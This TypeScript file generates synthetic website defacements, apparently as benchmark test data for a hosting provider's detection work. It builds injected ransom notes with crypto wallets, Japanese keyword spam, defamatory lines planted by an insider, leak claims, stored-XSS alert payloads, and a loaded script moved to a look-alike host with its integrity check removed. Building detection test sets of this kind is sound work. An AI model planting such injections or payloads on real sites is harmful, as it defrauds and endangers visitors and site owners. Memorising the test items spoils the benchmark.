/**
 * Fresh33 defacement classes: written during round 24, by someone who does
 * not read the engines, from the point of view of a web-hosting provider's
 * abuse and incident desk. The desk sees mass compromises of the sites its
 * customers host (CMS plugin and theme exploits, stolen FTP or control-panel
 * credentials, hijacked admin accounts, a shared script or CDN file changed
 * upstream) and what the intruders change in the page: templates, header and
 * footer, navigation, widgets and sidebars, forms, metadata, links, contact
 * details and pictures. The classes are spread evenly over three questions:
 * what a visitor sees (the content area, the footer, the logo, a sidebar
 * widget, a ransom note, keyword spam in the title, style-sheet and dialog
 * defacements, embedded propaganda, sabotage of the text, a leak claim);
 * where the page sends visitors and their data (loaded scripts, injected
 * collectors, forms, refreshes, menu and footer links, downloads, metadata,
 * overlays, dynamically injected loaders, links to a cloned site); and
 * identifiers visitors copy or trust (phone, e-mail, bank account, wallet,
 * payment handle, social profiles, payment notices, support handles,
 * giveaways, support numbers, mail domains), each changed in the quiet ways
 * an intruder with an admin login uses. Wording, language (the site's own
 * most of the time), placement, sizes, hosts and numbers vary with the rng.
 * The writer had no internet access: the patterns are recalled from memory
 * of public descriptions (Zone-H style defacement archives, Sucuri/GoDaddy,
 * Wordfence, Sansec and Malwarebytes write-ups of WordPress and Magento
 * mass infections such as the Japanese keyword hack, pharma hacks, Balada
 * Injector and Magecart skimmers, the 2016-2017 web ransom notes, Indonesian
 * gambling-link campaigns, address-poisoning and invoice-fraud warnings from
 * banks and police) and may differ in detail. Scored in the `fresh33`
 * group, never tuned on.
 */
import { type ChangeClass, bottom, brandName, elAt, forms, head, lineAfter, occurrences, replaceEverywhere, resolve, say, shown, siteOr, top } from "./classes.js"
import { type Page, makeBank, makeWallet, registrable } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, groupIban, iban, locales, swapPhone } from "./locales.js"
import { type El, type Range, attrInsertAt, attrSpans, insideRaw, rels } from "./locate.js"
import { type Rng, alnum, base58, bech32, between, chance, digits, hex, int, pick, sample } from "./rng.js"
import { boast, brandLookalike, contactLine, greetz, libLookalike, nick, notifyLine, political, randomDomain, scriptPath, signature, slug, team } from "./words.js"

const fresh33 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name: `fresh33-${name}`, kind: "defacement", group: "fresh33", make })

type T<A> = Record<Lang, A>

// ———————————————————————————— helpers ————————————————————————————

const usable = (page: Page, e: El) => !e.inert && !insideRaw(page.spots, e.start)
/** Escapes for an attribute value in any quoting (esc leaves the apostrophe alone). */
const escAttr = (s: string) => esc(s).replace(/'/g, "&#39;")
/** Sets attribute `name` of `el`: the whole attribute is written again, double-quoted and fully escaped, or added. */
const setAttr = (page: Page, el: El, name: string, value: string): Splice => {
  const span = attrSpans(page.html, el).find((a) => a.name === name)
  if (span === undefined) return insert(attrInsertAt(el), ` ${name}="${escAttr(value)}"`)
  return replace({ start: span.start, end: span.end }, `${name}="${escAttr(value)}"`)
}
/** Whether `r` touches raw text or a comment, or holds one whole. */
const rawInside = (page: Page, r: Range): boolean => page.spots.raw.some((x) => (x.start < r.end && x.end > r.start) || (x.start >= r.start && x.end <= r.end))
const inner = (e: El): Range | null => (e.closeTag === null ? null : { start: e.openEnd, end: e.closeTag.start })
/** The element's content when it can be replaced without deleting raw text or comments. */
const clean = (page: Page, e: El): Range | null => {
  const r = inner(e)
  return r === null || rawInside(page, r) ? null : r
}
const textsIn = (page: Page, r: Range) => page.spots.texts.filter((t) => t.start >= r.start && t.end <= r.end)
const inText = (page: Page, r: Range): boolean => page.spots.texts.some((t) => r.start >= t.start && r.end <= t.end)
const textOcc = (page: Page, value: string): Array<Range> => occurrences(page, value).filter((r) => inText(page, r))
const trim = (page: Page, r: Range): Range => {
  const raw = page.html.slice(r.start, r.end)
  const lead = raw.length - raw.trimStart().length
  const trail = raw.length - raw.trimEnd().length
  return { start: r.start + lead, end: Math.max(r.start + lead, r.end - trail) }
}
const lineBeside = (page: Page, needles: ReadonlyArray<string>, html: string, fallback: number): Splice => {
  for (const n of needles) {
    const l = lineAfter(page, n)
    if (l !== null) return insert(l.at, l.wrap(html))
  }
  return insert(fallback, `<p>${html}</p>`)
}
const fill = (s: string, vars: Readonly<Record<string, string>>) => s.replace(/\{(\w+)\}/g, (_, k: string) => vars[k] ?? "")
const changing = (pairs: ReadonlyArray<readonly [string, string]>): Array<readonly [string, string]> => pairs.filter(([a, b]) => a !== "" && a !== b)
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
const who = (rng: Rng) => (chance(rng, 0.5) ? nick(rng) : team(rng))
const evilHost = (rng: Rng, page: Page): string => pick(rng, [() => randomDomain(rng), () => brandLookalike(rng, page.site.brand), () => libLookalike(rng)])()
const isOwn = (page: Page, href: string): boolean => {
  const u = resolve(page, href)
  return u !== null && registrable(u.hostname.toLowerCase()) === page.site.domain
}
const idClass = (e: El) => `${e.attribs.id ?? ""} ${e.attribs.class ?? ""}`
const within = (page: Page, el: El, f: (e: El) => boolean): boolean => {
  for (let e: El | undefined = el; e !== undefined; e = elAt(page, e.parent)) if (f(e)) return true
  return false
}
const footerish = (e: El) => e.name === "footer" || /footer|colophon|site-info|copyright|bottom-bar/i.test(idClass(e))
const navish = (e: El) => e.name === "nav" || e.name === "header" || e.attribs.role === "navigation" || /(^|[\s_-])(nav|menu|navbar|navigation|topbar|masthead)/i.test(idClass(e))
/** Shown links with a real address. */
const links = (page: Page): Array<El> =>
  shown(page, "a", (e) => usable(page, e) && (e.attribs.href ?? "").trim() !== "" && !/^\s*(#|javascript:|mailto:|tel:|data:)/i.test(e.attribs.href ?? ""))
/** Menu lists (ul/ol in a nav, header or menu), else any list of three or more linked items. */
const menuLists = (page: Page): Array<El> => {
  const items = new Map<number, number>()
  const linked = new Set<number>()
  for (const e of page.spots.elements) {
    if (e.name === "li") items.set(e.parent, (items.get(e.parent) ?? 0) + 1)
    if (e.name === "a") {
      const li = elAt(page, e.parent)
      if (li !== undefined && li.name === "li") linked.add(li.parent)
    }
  }
  const lists = page.spots.elements.filter((e) => (e.name === "ul" || e.name === "ol") && e.shown && usable(page, e) && e.closeTag !== null && linked.has(e.index))
  const navs = lists.filter((e) => (items.get(e.index) ?? 0) >= 2 && within(page, e, navish))
  return navs.length > 0 ? navs : lists.filter((e) => (items.get(e.index) ?? 0) >= 3)
}
/** A block position: top of the body, near the top, in the middle or anywhere. */
const blockSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)])
const imgs = (page: Page): Array<El> => shown(page, "img", (e) => usable(page, e) && (e.attribs.src ?? "").trim() !== "" && !/^\s*data:/i.test(e.attribs.src ?? ""))
const ytId = (rng: Rng) => Array.from({ length: 11 }, () => pick(rng, [..."ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"])).join("")
/** The whole content of the document's title element in the head. */
const titleRange = (page: Page): Range | null => {
  const el = page.spots.elements.find((e) => e.name === "title" && !e.inBody && e.closeTag !== null && usable(page, e))
  return el === undefined ? null : clean(page, el)
}
const crewMail = (rng: Rng, w: string) => `${w.replace(/[^A-Za-z0-9]/g, "").toLowerCase() || "x" + alnum(rng, 5)}${chance(rng, 0.4) ? digits(rng, 2) : ""}@${pick(rng, ["protonmail.com", "proton.me", "tutanota.com", "onionmail.org", "cock.li", "mail2tor.com", "yandex.com"])}`
const imgHost = (rng: Rng) => pick(rng, [randomDomain(rng), "i.imgur.com", "i.ibb.co", "i.postimg.cc", `i.${randomDomain(rng)}`])
const crewImage = (rng: Rng) => `https://${imgHost(rng)}/${alnum(rng, between(rng, 6, 9))}.${pick(rng, ["png", "jpg", "gif", "webp"])}`

// ———————————————————————————— what a visitor sees ————————————————————————————

// Hijacked admin accounts and SQL injections in CMS plugins let intruders overwrite the post or page content stored in the database, while the theme around it (header, menu, footer) still renders: the main content area's content replaced by the intruder's notice.
const contentArea = fresh33("content-area-overwritten", (page, rng) => {
  const w = who(rng)
  const msg = chance(rng, 0.5) ? political(rng).text : boast(rng).text
  const notice = [
    `<h1>${esc(signature(rng, w).text)}</h1>`,
    chance(rng, 0.6) ? `<p><img src="${crewImage(rng)}" alt="" width="${between(rng, 200, 500)}"></p>` : "",
    `<p>${esc(msg)}</p>`,
    chance(rng, 0.6) ? `<p>${esc(greetz(rng))}</p>` : "",
    chance(rng, 0.5) ? `<p>${contactLine(rng, w)}</p>` : "",
    chance(rng, 0.3) ? `<p><small>${esc(notifyLine(rng, w))}</small></p>` : ""
  ].join("")
  const strong = (e: El) => e.name === "main" || e.name === "article" || e.attribs.role === "main" || /(^|[\s_-])(content|entry-content|post-content|main-content|primary)([\s_-]|$)/i.test(idClass(e))
  const weak = (e: El) => /(^|[\s_-])(main|entry|post|article|page-body|container|wrapper)([\s_-]|$)/i.test(idClass(e))
  const fit = (f: (e: El) => boolean) => page.spots.elements.filter((e) => e.shown && usable(page, e) && /^(main|article|div|section)$/.test(e.name) && f(e))
    .map((e) => ({ e, r: clean(page, e) }))
    .filter((c): c is { e: El; r: Range } => c.r !== null && textsIn(page, c.r).length >= 2)
  const first = fit(strong)
  const cands = first.length > 0 ? first : fit(weak)
  if (cands.length > 0) {
    const c = chance(rng, 0.7) ? cands[0]! : pick(rng, cands)
    return splices(replace(c.r, `<div style="text-align:center;padding:${between(rng, 10, 60)}px">${notice}</div>`))
  }
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), `<div style="text-align:center">${notice}</div>`))
})

const copyrightRe = /©|&copy;|copyright|\(c\)\s*\d{4}|all rights reserved|alle rechte|tous droits|todos los derechos|todos os direitos|tutti i diritti|alle rechten/i

// Defacers who only reach the theme's footer template (an editable footer widget, a theme-options field) sign there: the copyright line replaced by a signature and greetz, or a signature line added at the end of the footer.
const footerSigned = fresh33("footer-copyright-signed", (page, rng) => {
  const w = who(rng)
  const sig = signature(rng, w).text
  const text = pick(rng, [() => sig, () => `${sig} ${pick(rng, ["|", "-", "~", "::"])} ${greetz(rng)}`, () => `© ${between(rng, 2024, 2026)} ${sig}`, () => `${sig} — ${boast(rng).text}`])()
  const runs = page.spots.texts.filter((t) => copyrightRe.test(t.text) && !rawInside(page, t))
  if (runs.length > 0) {
    const t = pick(rng, runs)
    return splices(replace(trim(page, t), `<b>${esc(text)}</b>`))
  }
  const foot = page.spots.elements.filter((e) => e.shown && usable(page, e) && footerish(e) && e.closeTag !== null)
  const html = `<p style="text-align:center;color:${pick(rng, ["red", "#0f0", "#000", "#c00"])}"><b>${esc(text)}</b></p>`
  return splices(insert(foot.length > 0 ? foot[foot.length - 1]!.closeTag!.start : bottom(page), html))
})

const logoRe = /logo|brand|site-title|emblem|masthead/i

// Theme-file defacements often swap the header logo for the crew's emblem (the logo is one file in the theme folder, or one setting): the logo picture pointed at an image elsewhere, its alt text changed to the crew's name.
const logoSwapped = fresh33("header-logo-replaced", (page, rng) => {
  const w = who(rng)
  const url = crewImage(rng)
  const all = imgs(page)
  const named = all.filter((e) => logoRe.test(`${e.attribs.src ?? ""} ${e.attribs.alt ?? ""} ${idClass(e)}`))
  const placed = all.filter((e) => within(page, e, (x) => x.name === "header" || logoRe.test(idClass(x))))
  const el = named[0] ?? placed[0] ?? all[0]
  if (el === undefined) return splices(insert(top(page), `<p style="text-align:center"><img src="${url}" alt="${escAttr(w)}" height="${between(rng, 60, 160)}"></p>`))
  const out: Array<Splice> = [setAttr(page, el, "src", url)]
  if (chance(rng, 0.7)) out.push(setAttr(page, el, "alt", signature(rng, w).text))
  for (const a of attrSpans(page.html, el)) {
    if (a.value !== null && (a.name === "srcset" || /^data-(src|lazy-src|srcset|original)$/.test(a.name))) out.push(replace({ start: a.start, end: a.end }, `${a.name}="${escAttr(url)}"`))
  }
  return { splices: out }
})

// Intruders with an admin login add a text widget to the sidebar (it then shows on every page of the site) carrying their message and picture: a widget first or last in the sidebar.
const sidebarWidget = fresh33("sidebar-text-widget", (page, rng) => {
  const w = who(rng)
  const m = chance(rng, 0.6) ? political(rng) : boast(rng)
  const widget = `<section class="widget ${pick(rng, ["widget_text", "widget_custom_html", "widget_block"])}"><h3 class="widget-title">${esc(chance(rng, 0.5) ? signature(rng, w).text : w)}</h3><div class="textwidget">${chance(rng, 0.6) ? `<img src="${crewImage(rng)}" alt="" width="${between(rng, 150, 300)}">` : ""}<p>${esc(m.text)}</p>${chance(rng, 0.4) ? `<p>${contactLine(rng, w)}</p>` : ""}</div></section>`
  const sidebars = page.spots.elements.filter((e) => e.shown && usable(page, e) && e.closeTag !== null && (e.name === "aside" || /sidebar|widget-area|secondary/i.test(idClass(e))))
  if (sidebars.length > 0) {
    const s = pick(rng, sidebars)
    return splices(insert(chance(rng, 0.5) ? s.openEnd : s.closeTag!.start, widget))
  }
  return splices(insert(anySlot(rng, page.spots), widget))
})

const ransom: T<ReadonlyArray<string>> = {
  en: ["All files of this website have been encrypted", "Your website, its database and its backups are encrypted with a strong algorithm. To get the decryption key, send {amt} {coin} to the address below within {h} hours.", "After payment, write to {mail} with your domain name. If you do not pay, the key will be deleted and your data published."],
  fr: ["Tous les fichiers de ce site ont été chiffrés", "Votre site, sa base de données et ses sauvegardes sont chiffrés. Pour obtenir la clé, envoyez {amt} {coin} à l'adresse ci-dessous sous {h} heures.", "Après paiement, écrivez à {mail} en indiquant votre nom de domaine. Sans paiement, la clé sera détruite et vos données publiées."],
  de: ["Alle Dateien dieser Website wurden verschlüsselt", "Ihre Website, ihre Datenbank und ihre Backups sind verschlüsselt. Für den Schlüssel senden Sie {amt} {coin} innerhalb von {h} Stunden an die folgende Adresse.", "Schreiben Sie nach der Zahlung mit Ihrem Domainnamen an {mail}. Ohne Zahlung wird der Schlüssel gelöscht und Ihre Daten veröffentlicht."],
  es: ["Todos los archivos de este sitio han sido cifrados", "Su web, su base de datos y sus copias de seguridad están cifradas. Para obtener la clave, envíe {amt} {coin} a la dirección de abajo en {h} horas.", "Tras el pago, escriba a {mail} con su dominio. Si no paga, la clave será borrada y sus datos publicados."],
  nl: ["Alle bestanden van deze website zijn versleuteld", "Uw website, database en back-ups zijn versleuteld. Stuur binnen {h} uur {amt} {coin} naar het adres hieronder om de sleutel te krijgen.", "Mail na betaling naar {mail} met uw domeinnaam. Zonder betaling wordt de sleutel gewist en uw data gepubliceerd."],
  pt: ["Todos os arquivos deste site foram criptografados", "Seu site, banco de dados e backups estão criptografados. Para obter a chave, envie {amt} {coin} para o endereço abaixo em até {h} horas.", "Após o pagamento, escreva para {mail} com o seu domínio. Sem pagamento, a chave será apagada e os dados publicados."],
  it: ["Tutti i file di questo sito sono stati cifrati", "Il sito, il database e i backup sono cifrati. Per ottenere la chiave inviate {amt} {coin} all'indirizzo qui sotto entro {h} ore.", "Dopo il pagamento scrivete a {mail} indicando il dominio. Senza pagamento la chiave sarà cancellata e i dati pubblicati."]
}

// Web-server ransom notes (the 2016-2017 waves against WordPress, Joomla and unprotected databases, index pages replaced by "your files are encrypted, pay in bitcoin"): the whole document replaced by a ransom note with an amount, a wallet and an address to write to.
const ransomNote: ChangeClass = {
  name: "fresh33-site-ransom-note",
  kind: "defacement",
  group: "fresh33",
  wholePage: true,
  make: (page, rng) => {
    const coin = pick(rng, ["BTC", "BTC", "XMR", "USDT (TRC20)"] as const)
    const wal = makeWallet(rng, coin)
    const amt = coin === "BTC" ? pick(rng, ["0.05", "0.1", "0.15", "0.2", "0.5", "1"]) : coin === "XMR" ? String(between(rng, 2, 20)) : String(between(rng, 3, 50) * 100)
    const [h1, p1, p2] = siteOr(rng, page, ransom)
    const vars = { amt, coin, h: String(pick(rng, [24, 48, 72, 96])), mail: crewMail(rng, who(rng)) }
    const bg = pick(rng, ["#000", "#111", "#1a1a1a", "#fff"])
    const fg = bg === "#fff" ? "#c00" : pick(rng, ["#f00", "#0f0", "#fff"])
    const body = [
      `<h1>${esc(h1!)}</h1>`,
      `<p>${esc(fill(p1!, vars))}</p>`,
      `<p><code style="font-size:${between(rng, 14, 22)}px">${wal.address}</code></p>`,
      `<p>${esc(fill(p2!, vars))}</p>`,
      chance(rng, 0.4) ? `<p>ID: ${hex(rng, 16).toUpperCase()}</p>` : ""
    ].join("\n")
    return { html: `<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>${esc(chance(rng, 0.5) ? h1! : `${page.site.host} — ${pick(rng, ["ENCRYPTED", "LOCKED", "RANSOM"])}`)}</title></head><body style="background:${bg};color:${fg};font-family:${pick(rng, ["monospace", "Arial,sans-serif", "Consolas,monospace"])};text-align:center;padding:${between(rng, 20, 80)}px">\n${body}\n</body></html>\n` }
  }
}

const jpBrands = ["ルイヴィトン", "シャネル", "グッチ", "エルメス", "ロレックス", "プラダ", "ナイキ", "オメガ", "バレンシアガ", "コーチ", "モンクレール"]
const jpItems = ["財布", "バッグ", "腕時計", "スニーカー", "ダウンジャケット", "キーケース", "ネックレス", "サングラス"]
const jpPitch = ["激安", "通販", "送料無料", "新作", "人気", "最安値", "アウトレット", "正規品", "スーパーコピー", "N級品", "代引き", "2025年新作"]
const jpText = (rng: Rng) => `${pick(rng, ["", "【", "★"])}${pick(rng, jpBrands)} ${pick(rng, jpItems)} ${sample(rng, jpPitch, between(rng, 2, 4)).join(" ")}${pick(rng, ["", "】", " - 公式", " | 人気ランキング"])}`

// The Japanese keyword hack, which the desk sees on hacked WordPress sites by the hundred: titles and headings in Japanese advertising counterfeit brand goods, so search results and the tab show the spam: the title and the first heading replaced.
const japaneseKeyword = fresh33("japanese-keyword-title-heading", (page, rng) => {
  const out: Array<Splice> = []
  const t = titleRange(page)
  const title = jpText(rng)
  out.push(t !== null ? replace(t, esc(title)) : insert(head(page), `<title>${esc(title)}</title>`))
  const heads = ["h1", "h2"].flatMap((n) => shown(page, n, (e) => usable(page, e))).map((e) => clean(page, e)).filter((r): r is Range => r !== null && textsIn(page, r).length > 0)
  if (heads.length > 0 && chance(rng, 0.8)) out.push(replace(heads[0]!, esc(jpText(rng))))
  if (chance(rng, 0.5) || heads.length === 0) {
    const n = between(rng, 3, 8)
    const host = randomDomain(rng)
    const items = Array.from({ length: n }, () => `<li><a href="https://${host}/${pick(rng, ["item", "shop", "goods", "products"])}/${alnum(rng, 6)}.html">${esc(jpText(rng))}</a></li>`).join("")
    out.push(insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), `<ul class="${pick(rng, ["items", "list", "rank"])}">${items}</ul>`))
  }
  return { splices: out }
})

// Style-sheet defacements (the intruder only changes the theme's CSS or the CMS's "additional CSS" field): a rule that writes the signature over the page with a pseudo-element, sometimes with a background picture, the page's markup untouched.
const cssOverlay = fresh33("stylesheet-pseudo-element-signature", (page, rng) => {
  const w = who(rng)
  const text = pick(rng, [() => signature(rng, w).text, () => `${signature(rng, w).text} — ${boast(rng).text}`, () => `${w} ${pick(rng, ["was here", "owned you"])}`])().replace(/["\\]/g, "")
  const sel = pick(rng, ["body::before", "body:before", "html::before", "#page::before, body::before"])
  const bgi = chance(rng, 0.5) ? `body{background:#000 url(${crewImage(rng)}) center/${pick(rng, ["cover", "contain", "auto"])} no-repeat!important}` : ""
  const pos = pick(rng, ["position:fixed;top:0;left:0;right:0;bottom:0", "display:block", "position:fixed;top:30%;left:0;right:0"])
  const css = `${sel}{content:"${text}";${pos};z-index:${pick(rng, ["99999", "2147483647", "9999"])};background:${pick(rng, ["#000", "rgba(0,0,0,.9)", "#c00"])};color:${pick(rng, ["#0f0", "#fff", "#ff0"])};font:bold ${between(rng, 24, 72)}px ${pick(rng, ["monospace", "Impact,sans-serif", "Arial"])};text-align:center;padding:${between(rng, 20, 120)}px 10px}${bgi}`
  return splices(insert(pick(rng, [head(page), head(page), headStart(page), top(page)]), `<style${chance(rng, 0.3) ? ` id="${pick(rng, ["wp-custom-css", "custom-css", "theme-inline-css"])}"` : ""}>${css}</style>`))
})

// Stored cross-site scripting in comment, review and contact plugins, used by defacers to pop a message on every visit: a script or an image-error handler that shows a dialog with the signature, sometimes stored in a comment count or a list item.
const alertDialog = fresh33("stored-xss-alert-dialog", (page, rng) => {
  const w = who(rng)
  const msg = pick(rng, [() => signature(rng, w).text, () => `${signature(rng, w).text} - ${boast(rng).text}`, () => `${w}: ${political(rng).text}`])()
  const lit = pick(rng, [() => JSON.stringify(msg).replace(/</g, "\\u003c"), () => `String.fromCharCode(${[...msg].map((c) => c.charCodeAt(0)).join(",")})`])()
  const loop = chance(rng, 0.3)
  const code = `${loop ? "for(var i=0;i<" + between(rng, 3, 20) + ";i++)" : ""}alert(${lit});${chance(rng, 0.4) ? `document.title=${JSON.stringify(w).replace(/</g, "\\u003c")};` : ""}`
  const payload = pick(rng, [
    () => `<script>${code}</script>`,
    () => `<img src="x" onerror="${escAttr(code)}">`,
    () => `<svg onload="${escAttr(code)}"></svg>`,
    () => `"&gt;<script>${code}</script>`
  ])()
  const counts = shown(page, "span", (e) => usable(page, e) && (e.attribs.class ?? "").includes("comment-count") && e.closeTag !== null)
  if (counts.length > 0 && chance(rng, 0.4)) return splices(insert(pick(rng, counts).closeTag!.end, ` ${payload}`))
  return splices(insert(pick(rng, [head(page), top(page), bottom(page), anySlot(rng, page.spots)]), payload))
})

const videoHeads: T<ReadonlyArray<string>> = {
  en: ["Watch this before it is deleted", "The truth they hide from you", "A message to the world"], fr: ["Regardez avant que ce soit supprimé", "La vérité qu'on vous cache", "Un message au monde"],
  de: ["Seht euch das an, bevor es gelöscht wird", "Die Wahrheit, die man euch verschweigt", "Eine Botschaft an die Welt"], es: ["Mira esto antes de que lo borren", "La verdad que te ocultan", "Un mensaje al mundo"],
  nl: ["Bekijk dit voordat het verwijderd wordt", "De waarheid die ze verzwijgen", "Een boodschap aan de wereld"], pt: ["Assista antes que apaguem", "A verdade que escondem de você", "Uma mensagem ao mundo"],
  it: ["Guardate prima che venga cancellato", "La verità che vi nascondono", "Un messaggio al mondo"]
}

// Hacktivist defacements that embed a propaganda or "message" video (YouTube or a video file elsewhere, autoplaying) above the page's own content: a heading, the video and the slogan.
const propagandaVideo = fresh33("embedded-propaganda-video", (page, rng) => {
  const w = who(rng)
  const heading = pick(rng, siteOr(rng, page, videoHeads))
  const vid = chance(rng, 0.7)
    ? `<iframe width="${pick(rng, [560, 640, 800])}" height="${pick(rng, [315, 360, 450])}" src="https://www.${pick(rng, ["youtube.com", "youtube-nocookie.com"])}/embed/${ytId(rng)}?autoplay=1${chance(rng, 0.5) ? "&amp;mute=1" : ""}" frameborder="0" allow="autoplay; encrypted-media" allowfullscreen></iframe>`
    : `<video src="https://${randomDomain(rng)}/${pick(rng, ["v", "video", "media"])}/${alnum(rng, 8)}.mp4" autoplay ${chance(rng, 0.5) ? "muted " : ""}controls width="${pick(rng, [480, 640])}"></video>`
  const html = `<div class="${pick(rng, ["video-message", "featured-video", "msg"])}" style="text-align:center;background:${pick(rng, ["#000", "#111", "#fff"])};padding:${between(rng, 10, 40)}px"><h2>${esc(heading)}</h2>${vid}<p>${esc(political(rng).text)}</p><p>— ${esc(w)}</p></div>`
  return splices(insert(blockSpot(rng, page), html))
})

const sabotage: T<ReadonlyArray<string>> = {
  en: ["{B} does not pay its staff.", "Do not trust {B}: they cheat their customers.", "Everything written here is a lie.", "This company is a scam, ask for your money back.", "The people running {B} are crooks."],
  fr: ["{B} ne paie pas ses salariés.", "Ne faites pas confiance à {B} : ils trompent leurs clients.", "Tout ce qui est écrit ici est faux.", "Cette entreprise est une arnaque, demandez à être remboursés.", "Les dirigeants de {B} sont des escrocs."],
  de: ["{B} zahlt seine Mitarbeiter nicht.", "Vertraut {B} nicht – sie betrügen ihre Kunden.", "Alles, was hier steht, ist gelogen.", "Diese Firma ist Betrug, verlangt euer Geld zurück.", "Die Leute hinter {B} sind Gauner."],
  es: ["{B} no paga a sus empleados.", "No confíes en {B}: engañan a sus clientes.", "Todo lo que pone aquí es mentira.", "Esta empresa es una estafa, pide que te devuelvan el dinero.", "Los que dirigen {B} son unos estafadores."],
  nl: ["{B} betaalt zijn personeel niet.", "Vertrouw {B} niet: ze bedriegen hun klanten.", "Alles wat hier staat is gelogen.", "Dit bedrijf is oplichting, vraag je geld terug.", "De mensen achter {B} zijn oplichters."],
  pt: ["{B} não paga os seus funcionários.", "Não confie em {B}: eles enganam os clientes.", "Tudo o que está escrito aqui é mentira.", "Esta empresa é um golpe, peça o seu dinheiro de volta.", "Quem dirige {B} é uma quadrilha."],
  it: ["{B} non paga i suoi dipendenti.", "Non fidatevi di {B}: ingannano i clienti.", "Tutto quello che è scritto qui è falso.", "Questa azienda è una truffa, chiedete il rimborso.", "Chi dirige {B} è un truffatore."]
}

// Sabotage by a former employee or web agency that kept the panel or CMS password: insults and accusations slipped in at the end of a few of the page's own paragraphs, in the site's language, the layout untouched.
const paragraphSabotage = fresh33("paragraphs-sabotaged-by-insider", (page, rng) => {
  const B = brandName(page)
  const runs = page.spots.texts.filter((t) => t.text.trim().length >= 40 && !/[{};]\s*$/.test(t.text.trim()) && !rawInside(page, t))
  const pool = runs.length > 0 ? runs : page.spots.texts.filter((t) => t.text.trim().length >= 8 && !rawInside(page, t))
  const chosen = sample(rng, pool, between(rng, 1, 5))
  const lines = say(page, sabotage)
  const out = chosen.map((t) => {
    const tag = pick(rng, ["b", "strong", "em", "span"])
    return insert(trim(page, t).end, ` <${tag}>${esc(fill(pick(rng, lines), { B }))}</${tag}>`)
  })
  if (out.length > 0) return { splices: out }
  return splices(insert(slotAt(page.spots, "top"), `<p><strong>${esc(fill(pick(rng, lines), { B }))}</strong></p>`))
})

const leak: T<readonly [string, string, string]> = {
  en: ["{B} has been breached", "We have downloaded {n} records from {B}: names, e-mail addresses, phone numbers, addresses and password hashes. The admins ignored our warnings.", "Download the full database"],
  fr: ["{B} a été piraté", "Nous avons téléchargé {n} enregistrements de {B} : noms, adresses e-mail, téléphones, adresses et mots de passe. Les administrateurs ont ignoré nos avertissements.", "Télécharger la base complète"],
  de: ["{B} wurde gehackt", "Wir haben {n} Datensätze von {B} heruntergeladen: Namen, E-Mail-Adressen, Telefonnummern, Anschriften und Passwort-Hashes. Die Admins haben unsere Warnungen ignoriert.", "Komplette Datenbank herunterladen"],
  es: ["{B} ha sido hackeado", "Hemos descargado {n} registros de {B}: nombres, correos, teléfonos, direcciones y contraseñas. Los administradores ignoraron nuestros avisos.", "Descargar la base de datos completa"],
  nl: ["{B} is gehackt", "We hebben {n} records van {B} gedownload: namen, e-mailadressen, telefoonnummers, adressen en wachtwoordhashes. De beheerders negeerden onze waarschuwingen.", "Download de volledige database"],
  pt: ["{B} foi invadido", "Baixamos {n} registros de {B}: nomes, e-mails, telefones, endereços e senhas. Os administradores ignoraram nossos avisos.", "Baixar o banco de dados completo"],
  it: ["{B} è stato violato", "Abbiamo scaricato {n} record da {B}: nomi, e-mail, telefoni, indirizzi e hash delle password. Gli amministratori hanno ignorato i nostri avvisi.", "Scarica il database completo"]
}

// Leak-claim defacements (crews announce on the victim's own page that they took the customer database, with a link to a file-sharing or paste site), which frighten visitors and harm the owner: a claim with a record count and a download link.
const leakClaim = fresh33("database-leak-claim", (page, rng) => {
  const w = who(rng)
  const [h, p, a] = siteOr(rng, page, leak)
  const sep = pick(rng, [",", ".", " ", ""])
  const vars = { B: brandName(page), n: pick(rng, [String(between(rng, 1200, 98000)), `${between(rng, 1, 9)}${sep}${digits(rng, 3)}${sep}${digits(rng, 3)}`, `${between(rng, 10, 999)}${sep}${digits(rng, 3)}`]) }
  const href = pick(rng, [
    () => `https://mega.nz/file/${alnum(rng, 8)}#${alnum(rng, 22)}`,
    () => `https://pastebin.com/${alnum(rng, 8)}`,
    () => `https://t.me/${w.replace(/[^A-Za-z0-9_]/g, "").toLowerCase() || "leaks" + digits(rng, 3)}`,
    () => `https://${randomDomain(rng)}/${pick(rng, ["dump", "leak", "db"])}/${slug(page.site.brand)}.${pick(rng, ["sql", "zip", "7z", "rar"])}`,
    () => `https://gofile.io/d/${alnum(rng, 6)}`
  ])()
  const html = `<div class="${pick(rng, ["alert", "leak", "notice", "breach"])}" style="background:${pick(rng, ["#000", "#b00", "#111"])};color:#fff;padding:${between(rng, 10, 40)}px;text-align:center"><h2>${esc(fill(h, vars))}</h2><p>${esc(fill(p, vars))}</p><p><a href="${escAttr(href)}" style="color:${pick(rng, ["#0f0", "#ff0", "#fff"])}">${esc(a)}</a></p><p>— ${esc(w)}</p></div>`
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top")]), html))
})

// ———————————————————————————— where the page sends visitors and data ————————————————————————————

// Supply-chain changes to a shared script (a theme's or plugin's bundled library re-pointed, a jQuery or analytics include moved to a look-alike host that serves the same file plus a skimmer): one loaded script's address moved to another host, its file name kept.
const scriptRehosted = fresh33("loaded-script-moved-to-lookalike-host", (page, rng) => {
  const scripts = page.spots.elements.filter((e) => e.name === "script" && usable(page, e) && (e.attribs.src ?? "").trim() !== "")
  const host = chance(rng, 0.6) ? libLookalike(rng) : evilHost(rng, page)
  if (scripts.length > 0) {
    const el = pick(rng, scripts)
    const u = resolve(page, el.attribs.src ?? "")
    const path = u !== null ? `${u.pathname}${u.search}` : scriptPath(rng)
    const out = [setAttr(page, el, "src", `https://${host}${path}`)]
    if (el.attribs.integrity !== undefined) out.push(setAttr(page, el, "integrity", ""))
    return { splices: out }
  }
  return splices(insert(pick(rng, [head(page), headStart(page), bottom(page)]), `<script src="https://${host}${scriptPath(rng)}"${chance(rng, 0.5) ? " async" : ""}></script>`))
})

